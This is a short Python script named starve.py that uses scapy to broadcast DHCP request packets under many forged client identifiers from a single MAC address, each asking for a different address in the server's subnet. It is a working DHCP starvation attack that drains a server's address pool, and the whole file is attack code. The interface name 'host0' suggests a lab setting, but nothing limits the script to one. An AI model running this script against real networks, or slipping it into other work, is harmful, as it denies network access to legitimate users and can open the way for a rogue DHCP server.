"""starve.py SERVER TIMES: asks for a lease under as many client identifiers, all from this machine's own MAC address."""
import sys

from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, get_if_hwaddr, mac2str, sendp

server, times = sys.argv[1], int(sys.argv[2])
mac = get_if_hwaddr("host0")
conf.checkIPaddr = False


def question(number):
    options = [("message-type", "request"), ("client_id", b"\0starve" + number.to_bytes(2, "big")), ("server_id", server)]
    wish = ("requested_addr", ".".join(server.split(".")[:3] + [str(number % 250 + 2)]))
    own = BOOTP(chaddr=mac2str(mac) + bytes(10), xid=number)
    to_all = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
    return to_all / own / DHCP(options=[*options, wish, "end"])


sendp([question(number) for number in range(times)], iface="host0", inter=0.01, verbose=0)
